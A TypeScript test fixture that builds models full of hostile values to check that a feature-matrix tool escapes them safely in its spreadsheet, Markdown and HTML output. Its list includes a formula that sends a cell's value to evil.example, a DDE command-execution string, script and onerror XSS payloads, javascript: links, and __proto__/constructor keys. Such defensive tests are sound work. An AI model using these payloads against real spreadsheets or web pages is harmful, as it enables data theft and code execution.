/**
 * Models the format tests round trip: every sample as the INI reader reads
 * it, and a synthetic model full of hostile values and of every optional
 * member of the model (extras, document), in all three dialects.
 */

import type { Diagnostic } from '../../src/diagnostics.js';
import type { ReadOptions, WriteOptions } from '../../src/formats/types.js';
import { newFeature, toPlain, type Dialect, type Matrix } from '../../src/model/matrix.js';
import { readIniBytes } from '../../src/formats/ini/read.js';
import { INI_SAMPLES, sampleBytes } from '../helpers/samples.js';

export { INI_SAMPLES };

export function sampleModel(name: string): Matrix {
  return readIniBytes(sampleBytes(name), name).matrix;
}

/** Values that a spreadsheet, Markdown or HTML would interpret, and awkward text. */
export const HOSTILE: string[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '\tleading tab',
  '<script>alert(1)</script>',
  '**bold** [x](javascript:alert(1)) | pipe',
  '```js\nalert(1)\n```',
  '~~~\nfence\n~~~',
  '`code` and ``double``',
  '<img src=x onerror=alert(1)>',
  '中文 日本語 한국어 🎉👩‍👩‍👧 e\u0301 Z\u0351\u0358a\u0344lgo',
  "'=already quoted",
  "''",
  "'",
  '＝full width',
  '  leading and trailing spaces  ',
  'line one\nline two\n  indented\n\nnew paragraph',
  '# heading\n- list\n> quote\n1. one\n---',
  '<!-- comment --> -->',
  'trailing backslash\\',
  '&amp; &lt; &#x27;',
  'a\\*b\\_c',
  '',
  'https://example.org/auto?link=1 www.example.com',
  '\r\nCRLF inside\r\nvalue',
  '[^1] footnote [ref]: /x',
];

/** A model with every hostile value in titles, notes and keys, and every optional member. */
export function hostileModel(dialect: Dialect = 'support-matrix'): Matrix {
  const m: Matrix = {
    format: 'fmx/matrix',
    version: 1,
    dialect,
    drivers: [
      { key: '__proto__', title: HOSTILE[0]!, link: 'javascript:alert(1)' },
      { key: 'constructor', title: '<script>alert(1)</script>', link: null, extras: [{ name: 'vendor', value: '=1+1' }] },
      { key: 'no-cells', title: null, link: 'https://example.org/a|b' },
      { key: 'plain', title: 'Plain ✔ driver', link: 'https://example.org/x_(y)' },
    ],
    features: [],
    document: { title: '**Doc** <b>title</b>', preamble: ['First | para', HOSTILE[7]!], postscript: ['Bye <script>x</script>'] },
    extras: [{ section: 'targets', name: 'note', value: '@SUM(1)' }],
  };
  HOSTILE.forEach((v, n) => {
    const f = newFeature(n === 0 ? '__proto__' : n === 1 ? 'constructor' : `operation.hostile-${n}`, v);
    f.status = n % 3 === 0 ? 'choice' : n % 3 === 1 ? 'optional' : v;
    f.group = n % 3 === 0 ? `group ${v}` : null;
    f.notes = HOSTILE[(n + 5) % HOSTILE.length]!;
    f.cli = n % 2 && !v.includes(';') ? [v, 'nova list'] : [];
    f.api = n % 4 === 0 ? v : null;
    f.maturity = n % 5 === 0 ? 'experimental' : null;
    f.apiDocLink = n % 6 === 0 ? 'https://docs.example/#x' : null;
    f.adminDocLink = n % 7 === 0 ? v : null;
    f.tempestTestUuids = n % 3 === 1 && !v.includes(';') ? ['9a438d88-10c6', v] : [];
    if (n % 4 !== 3) {
      f.implementations.push({ driver: 'plain', status: n % 2 ? 'complete' : 'partial', notes: n % 2 ? null : v, release: n % 3 === 0 ? 'Ussuri' : null });
      f.implementations.push({ driver: '__proto__', status: ['missing', 'unknown', v, ''][n % 4]!, notes: HOSTILE[(n + 11) % HOSTILE.length]!, release: null });
      if (n % 5 === 0) f.implementations.push({ driver: 'constructor', status: 'complete', notes: '', release: n ? v : null });
    }
    if (n % 6 === 2) f.extras = [{ name: 'driver.undeclared', value: v }, { name: 'driver-notes.ghost', value: 'x' }];
    m.features.push(f);
  });
  const empty = newFeature('operation.empty', null);
  m.features.push(empty);
  return m;
}

export function plain(m: Matrix): Matrix {
  return toPlain(m);
}

export function collectingOptions(file: string): { read: ReadOptions; warnings: Diagnostic[] } {
  const warnings: Diagnostic[] = [];
  return { read: { file, warn: (d) => warnings.push(d) }, warnings };
}

export function writeOptions(file: string, extra: Partial<WriteOptions> = {}): WriteOptions {
  return { file, warn: () => {}, ...extra };
}
